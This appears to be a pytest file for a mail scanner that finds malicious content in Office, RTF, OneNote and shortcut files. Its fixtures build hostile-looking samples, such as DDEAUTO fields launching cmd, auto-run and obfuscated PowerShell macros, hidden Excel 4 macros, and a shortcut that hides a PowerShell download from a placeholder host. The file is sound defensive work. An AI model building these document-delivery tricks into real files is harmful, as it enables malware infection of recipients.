"""Office documents: what hides in them is found, and ordinary ones get no grave symbol."""

from __future__ import annotations

import base64
import io
import random
import struct
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msoffcrypto.format.ooxml import OOXMLFile
from msoffcrypto.method.ecma376_agile import ECMA376Agile

from mailguard.checks.unpack_symbols import SYMBOLS
from mailguard.sandbox.unpack import encrypted, vba
from mailguard.sandbox.unpack.dde import fields
from mailguard.sandbox.unpack.macros import judge, judge_compiled
from mailguard.sandbox.unpack.office_xml import report_relation
from mailguard.sandbox.unpack.ole_objects import monikers, package_of
from mailguard.sandbox.unpack.shortcuts import read_link
from mailguard.sandbox.unpack.targets import Target, target_of
from mailguard.sandbox.unpack.work import File, Work
from tests.unit.sandbox.unpack.compound import compound
from tests.unit.sandbox.unpack.taken import apart, contents, symbols

RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def document(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
        )
        archive.writestr(
            "word/document.xml", "<w:document><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>"
        )
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def judged(source: str, started: str = "") -> dict[str, list[str]]:
    work = Work(File("a", b"", ""))
    judge(work.root, work, [("Module1", source)], started=started)
    return symbols(work.root)


def compressed(text: bytes) -> bytes:
    """A container of MS-OVBA with letters alone, as a compressor may leave it."""
    out = b"\x01"
    for start in range(0, len(text), 3600):
        body = b"".join(b"\0" + text[at : at + 8] for at in range(start, min(start + 3600, len(text)), 8))
        out += struct.pack("<H", 0xB000 | len(body) - 1) + body
    return out


def test_an_ordinary_document_gets_nothing() -> None:
    fields_ = '<w:fldSimple w:instr=" PAGE "/><w:r><w:instrText> HYPERLINK "https://a.example/" </w:instrText></w:r>'
    relations = RELS.format(
        f'<Relationship Id="r1" Type="{TYPE}hyperlink" Target="https://a.example/" TargetMode="External"/>'
        f'<Relationship Id="r2" Type="{TYPE}attachedTemplate" Target="file:///C:\\Users\\me\\Normal.dotm" TargetMode="External"/>'
        f'<Relationship Id="r3" Type="{TYPE}image" Target="media/image1.png"/>'
    )
    raw = document(
        {
            "word/header1.xml": fields_,
            "word/_rels/document.xml.rels": relations,
            "word/media/image1.png": b"\x89PNG\r\n\x1a\n",
        }
    )
    assert symbols(apart(raw, "a.docx")) == {}


@pytest.mark.parametrize(
    ("kind", "target", "symbol"),
    [
        ("attachedTemplate", "http://a.example/t.dotm", "OFFICE_REMOTE_TEMPLATE"),
        ("attachedTemplate", r"\\files\templates\t.dotm", "OFFICE_TEMPLATE_SHARE"),
        ("oleObject", "http://a.example/x.doc", "OFFICE_REMOTE_OBJECT"),
        ("oleObject", "mhtml:http://a.example/x.html!x-usc:http://a.example/x.html", "OFFICE_EXPLOIT_SHAPE"),
        ("oleObject", "https://a.example/x.html!", "OFFICE_EXPLOIT_SHAPE"),
        ("oleObject", "file:///C:\\book.xls", "OFFICE_EXTERNAL_LINK"),
        ("frame", "http://a.example/", "OFFICE_REMOTE_OBJECT"),
        ("image", "http://a.example/p.png", "OFFICE_REMOTE_IMAGE"),
        ("image", r"\\a.example\p.png", "OFFICE_REMOTE_OBJECT"),
        ("externalLinkPath", "book2.xlsx", "OFFICE_EXTERNAL_LINK"),
    ],
)
def test_what_leads_out_of_a_document(kind: str, target: str, symbol: str) -> None:
    work = Work(File("a", b"", ""))
    report_relation(work.root, work, TYPE + kind, target, "External")
    assert list(symbols(work.root)) == [symbol]


def test_dde_split_over_runs_and_hidden_in_numbers() -> None:
    split = (
        '<w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText><w:instrText xml:space="preserve">EAUTO </w:instrText>'
        '<w:instrText>c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText><w:fldChar w:fldCharType="end"/>'
    )
    assert "OFFICE_DDE_RUNS" in symbols(apart(document({"word/footer1.xml": split}), "a.docx"))
    tokens = [
        ("begin", ""),
        ("begin", ""),
        ("code", " QUOTE 68 68 69 65 85 84 79 "),
        ("end", ""),
        ("code", " cmd /c calc"),
        ("end", ""),
    ]
    assert [one.split() for one in fields(tokens)] == [["DDEAUTO", "cmd", "/c", "calc"]]


def test_prices_by_dde_are_no_program() -> None:
    link = '<externalLink><ddeLink ddeService="REUTER" ddeTopic="IDN"/></externalLink>'
    found = symbols(apart(document({"xl/externalLinks/externalLink1.xml": link}), "a.xlsx"))
    assert list(found) == ["OFFICE_DDE"]


def test_macros_that_run_are_told_from_those_that_do_not() -> None:
    assert "OFFICE_MACRO_RUNS" in judged('Sub AutoOpen()\n Shell "cmd.exe /c x"\nEnd Sub')
    assert judged("Sub Tidy()\n Selection.Font.Bold = True\nEnd Sub") == {}
    assert list(judged('Sub Document_Open()\n MsgBox "Hello"\nEnd Sub')) == ["OFFICE_MACRO_AUTOEXEC"]
    assert judged("' Sub AutoOpen() once called Shell(x)\nSub A()\nEnd Sub") == {}
    assert "OFFICE_MACRO_RUNS" in judged("Sub A(x)\n Shell x\nEnd Sub", started="customUI onLoad A")


def test_words_that_a_macro_puts_together_are_read() -> None:
    joined = 'Sub AutoOpen()\n x = "pow" & "ersh" & "ell"\nEnd Sub'
    letters = "Sub AutoOpen()\n x = " + " & ".join(f"Chr({ord(one)})" for one in "powershell") + "\nEnd Sub"
    turned = 'Sub AutoOpen()\n x = StrReverse("llehsrewop")\nEnd Sub'
    coded = f'Sub AutoOpen()\n x = "{base64.b64encode("powershell -enc".encode("utf-16-le")).decode()}"\nEnd Sub'
    for source in (joined, letters, turned, coded):
        assert "PowerShell" in judged(source)["OFFICE_MACRO_RUNS"][0], source


def test_macros_whose_text_was_taken_away() -> None:
    work = Work(File("a", b"", ""))
    judge_compiled(work.root, work, frozenset({"document_open", "urldownloadtofilea"}), [("M", "Sub A()\nEnd Sub")])
    assert list(symbols(work.root)) == ["OFFICE_MACRO_STOMPED"]


@given(st.binary(max_size=9000))
def test_what_is_compressed_is_read_again(text: bytes) -> None:
    assert vba.decompress(compressed(text)) == text


def test_copies_are_read() -> None:
    # MS-OVBA §3.2.3, the example of the longest compression
    raw = bytes.fromhex("0103B0026145 00".replace(" ", ""))
    assert vba.decompress(raw)[:1] == b"a"
    assert vba.decompress(b"\x01" + struct.pack("<H", 0xB003) + b"\x02a\x45\x00") == b"a" * 73


@given(st.binary(max_size=400))
def test_any_octets_are_no_crash_of_the_small_readers(raw: bytes) -> None:
    list(monikers(raw))
    package_of(raw)
    list(vba.modules(b"\x01\x00\xb0\x00Attribut" + raw))
    try:
        read_link(raw)
        read_link(b"L\0\0\0" + raw.ljust(100, b"\0"))
    except ValueError:
        pass


def test_where_links_lead() -> None:
    assert target_of("https://a.example/") is Target.WEB
    assert target_of(r"\\a.example\x") is Target.SHARE
    assert target_of("file://a.example/x") is Target.SHARE
    assert target_of("file:///C:/x") is Target.LOCAL
    assert target_of("../x.docx") is Target.LOCAL
    assert target_of("ms-msdt:/id PCWDiagnostic") is Target.EXPLOIT


def test_macros_under_a_name_without_and_programs_in_documents() -> None:
    found = symbols(apart(document({"word/embeddings/run.js": "WScript.Echo(1)"}), "a.docx"))
    assert found["OFFICE_EMBEDDED_PROGRAM"] == ["word/embeddings/run.js"]


def test_excel4_macros_in_a_hidden_sheet() -> None:
    book = (
        '<workbook><sheets><sheet name="M" sheetId="1" state="veryHidden"/></sheets>'
        '<definedNames><definedName name="_xlnm.Auto_Open">M!A1</definedName></definedNames></workbook>'
    )
    sheet = '<xm:macrosheet><c r="A1"><f>EXEC("calc")</f></c></xm:macrosheet>'
    found = symbols(apart(document({"xl/workbook.xml": book, "xl/macrosheets/sheet1.xml": sheet}), "a.xlsm"))
    assert {"OFFICE_XLM", "OFFICE_XLM_HIDDEN", "OFFICE_MACRO_RUNS"} <= found.keys()
    assert found["OFFICE_XLM_HIDDEN"] == ["M"]


def test_rtf_of_many_shapes() -> None:
    assert symbols(apart(b"{\\rtf1\\ansi Hello \\\\objupdate}")) == {}
    assert "RTF_REMOTE_TEMPLATE" in symbols(apart(b"{\\rtf1{\\*\\template http://a.example/t}}"))
    hidden = "".join(f"\\'{ord(one):02x}" for one in "http://a.example/").encode()
    assert "RTF_REMOTE_TEMPLATE" in symbols(apart(b"{\\rtf1{\\*\\template " + hidden + b"}}"))
    header = struct.pack("<II", 0x501, 2) + struct.pack("<I", 11) + b"Equation.3\0" + bytes(8)
    data = (header + struct.pack("<I", 20) + bytes(20)).hex().encode()
    assert "RTF_EXPLOIT_SHAPE" in symbols(apart(b"{\\rtf1{\\object\\objemb{\\*\\objdata " + data + b"}}}"))


def test_a_package_in_rtf_gives_its_file() -> None:
    native = (
        b"\x02\0a.exe\0C:\\a.exe\0\0\0\x03\0" + struct.pack("<I", 9) + b"C:\\a.exe\0" + struct.pack("<I", 4) + b"MZ\0\0"
    )
    header = (
        struct.pack("<II", 0x501, 2) + struct.pack("<I", 8) + b"Package\0" + bytes(8) + struct.pack("<I", len(native))
    )
    raw = b"{\\rtf1{\\object\\objemb{\\*\\objdata " + (header + native).hex().encode() + b"}}}"
    root = apart(raw, "a.rtf")
    assert contents(root) == {"a.exe": b"MZ\0\0"}
    assert "OFFICE_EMBEDDED_PROGRAM" in symbols(root)


def test_onenote_gives_its_files() -> None:
    stored = bytes.fromhex("E716E3BD65261145A4C48D4D0B7A9EAC")
    body = b'<script>CreateObject("WScript.Shell")</script>'
    raw = bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3") + bytes(64)
    raw += "open.hta".encode("utf-16-le") + b"\0\0" + stored + struct.pack("<QIQ", len(body), 0, 0) + body
    root = apart(raw, "a.one")
    assert list(contents(root).values()) == [body]
    assert "ONENOTE_EMBEDDED_PROGRAM" in symbols(root)


def shortcut(target: str, arguments: str) -> bytes:
    head = bytearray(76)
    head[:20] = b"L\0\0\0" + bytes.fromhex("0114020000000000C000000000000046")
    head[20:24] = struct.pack("<I", 8 | 32 | 128)
    texts = b"".join(struct.pack("<H", len(one)) + one.encode("utf-16-le") for one in (target, arguments))
    return bytes(head) + texts


def test_shortcuts() -> None:
    raw = shortcut("..\\..\\Windows\\System32\\cmd.exe", "/c powershell -w hidden iwr https://a.example/x")
    assert {"SHORTCUT", "SHORTCUT_RUNS", "SHORTCUT_REMOTE"} <= symbols(apart(raw, "a.lnk")).keys()
    assert list(symbols(apart(shortcut("report.docx", ""), "a.lnk"))) == ["SHORTCUT"]
    assert "SHORTCUT_HIDDEN" in symbols(apart(shortcut("cmd.exe", " " * 300 + "/c x"), "a.lnk"))
    remote = b"[InternetShortcut]\r\nURL=file://a.example/share/x.exe\r\n"
    assert "SHORTCUT_REMOTE" in symbols(apart(remote, "a.url"))
    assert list(symbols(apart(b"[InternetShortcut]\r\nURL=https://a.example/\r\n", "a.url"))) == ["SHORTCUT"]
    assert "OFFICE_QUERY" in symbols(apart(b"WEB\n1\nhttp://a.example/q\n", "a.iqy"))
    assert symbols(apart(b"name,price\nx,=A1+B1\n", "a.csv")) == {}


@pytest.mark.parametrize("password", ["secret", "VelvetSweatshop"])
def test_encrypted_documents_open_with_the_passwords_of_the_mail(password: str) -> None:
    encrypted.prepare()
    raw = document({"word/embeddings/run.js": "1", "word/fill.txt": random.Random(1).randbytes(8192)})
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(raw)).encrypt(password, out)
    found = symbols(apart(out.getvalue(), "a.docx", passwords=["other", "secret"]))
    assert found["OFFICE_PASSWORD"] == [password]
    assert "OFFICE_EMBEDDED_PROGRAM" in found
    if password == "secret":
        assert "OFFICE_ENCRYPTED" in symbols(apart(out.getvalue(), "a.docx", passwords=["other"]))


@pytest.mark.parametrize("size", [10, 1000, 3000, 3900, 4100])
def test_small_encrypted_documents_open_too(size: int) -> None:
    """Their package lies among the small streams. (The library's own writer lays small ones over each other.)"""
    encrypted.prepare()
    raw = document({"word/embeddings/run.js": "1", "word/fill.txt": random.Random(1).randbytes(size)})
    key, secret = ECMA376Agile.generate_encryption_parameters("secret", None, 1_000)
    package = ECMA376Agile.encrypt_payload(io.BytesIO(raw), key.encryptedKey, secret, key.keyData.saltValue)
    info = ECMA376Agile.get_encryption_information(key, package, secret)
    made = compound({"EncryptionInfo": info, "EncryptedPackage": package})
    root = apart(made, "a.docx", passwords=["secret"])
    assert symbols(root)["OFFICE_PASSWORD"] == ["secret"]
    assert root.children[0].raw == raw


def test_an_encrypted_opendocument_is_told() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", random.Random(1).randbytes(200))
        archive.writestr(
            "META-INF/manifest.xml",
            "<manifest:manifest><manifest:file-entry manifest:full-path='content.xml'>"
            "<manifest:encryption-data manifest:checksum-type='SHA256/1K'/></manifest:file-entry></manifest:manifest>",
        )
    assert "OFFICE_ENCRYPTED" in symbols(apart(out.getvalue(), "a.odt"))


def test_all_that_is_said_is_known() -> None:
    assert {"OFFICE_ENCRYPTED", "RTF_EXPLOIT_SHAPE"} <= SYMBOLS.keys()
